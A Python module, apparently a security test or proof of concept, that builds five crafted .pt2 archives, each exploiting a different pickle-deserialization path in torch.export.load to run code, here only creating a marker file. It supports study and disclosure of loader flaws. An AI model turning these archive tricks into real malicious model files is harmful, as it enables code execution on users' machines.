"""Crafted .pt2 archives, each of which makes a bare `torch.export.load` run code (it creates a marker file).

Every one takes a different path through torch 2.13's loader (torch/export/pt2_archive/_package.py and
torch/_export/serde/serialize.py):
  weights      a weights config entry with use_pickle -> torch.load(weights_only=False)
  opaque       a constant named opaque_obj_* -> plain pickle.loads
  sample       data/sample_inputs/model.pt -> deserialize_torch_artifact: weights_only=True, then on any
               error a retry with weights_only=False
  case         a benign data/... config for Python's zipfile, a DATA/... one that torch's miniz reader (which
               ignores case) reads instead, naming an opaque_obj_ constant
  legacy       the pre-2.8 layout (serialized_*.pt), loaded after load_pt2 fails, through the same retry
"""

from __future__ import annotations

import json
import pickle
import zipfile
from pathlib import Path


class _OpenMarker:
    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _payload(marker: Path) -> bytes:
    return pickle.dumps(_OpenMarker(marker), protocol=2)


def _zip(path: Path, entries: dict) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return path


def _program_json() -> bytes:
    return json.dumps({
        "graph_module": {"graph": {"inputs": [], "outputs": [], "nodes": [], "tensor_values": {}, "sym_int_values": {},
                                   "sym_bool_values": {}},
                         "signature": {"input_specs": [], "output_specs": []}, "module_call_graph": []},
        "opset_version": {"aten": 10}, "range_constraints": {}, "schema_version": {"major": 8, "minor": 0},
    }).encode()


def _archive(path: Path, extra: dict) -> Path:
    entries = {"archive_format": b"pt2", "archive_version": b"0", ".data/version": b"6\n", "byteorder": b"little",
               "models/model.json": _program_json(), "data/sample_inputs/model.pt": b"",
               "data/weights/model_weights_config.json": b'{"config": {}}',
               "data/constants/model_constants_config.json": b'{"config": {}}'}
    entries.update(extra)
    return _zip(path, {"archive/" + name: data for name, data in entries.items()})


def evil_pt2(kind: str, folder: Path, marker: Path) -> Path:
    meta = {"dtype": 7, "sizes": [{"as_int": 1}], "requires_grad": False, "device": {"type": "cpu", "index": None},
            "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7}
    opaque = json.dumps({"config": {"c": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                          "tensor_meta": None}}}).encode()
    path = folder / f"evil-{kind}.pt2"
    if kind == "weights":
        config = {"config": {"w": {"path_name": "weight_0", "is_param": False, "use_pickle": True, "tensor_meta": meta}}}
        return _archive(path, {"data/weights/model_weights_config.json": json.dumps(config).encode(),
                               "data/weights/weight_0": _payload(marker)})
    if kind == "opaque":
        return _archive(path, {"data/constants/model_constants_config.json": opaque,
                               "data/constants/opaque_obj_0": _payload(marker)})
    if kind == "sample":
        return _archive(path, {"data/sample_inputs/model.pt": _payload(marker)})
    if kind == "case":
        return _archive(path, {"DATA/constants/model_constants_config.json": opaque,
                               "DATA/constants/opaque_obj_0": _payload(marker)})
    if kind == "legacy":
        return _zip(path, {"version": b"8.0", "serialized_exported_program.json": _program_json(),
                           "serialized_state_dict.pt": _payload(marker), "serialized_constants.pt": _payload(marker),
                           "serialized_example_inputs.pt": _payload(marker)})
    raise ValueError(kind)


KINDS = ("weights", "opaque", "sample", "case", "legacy")
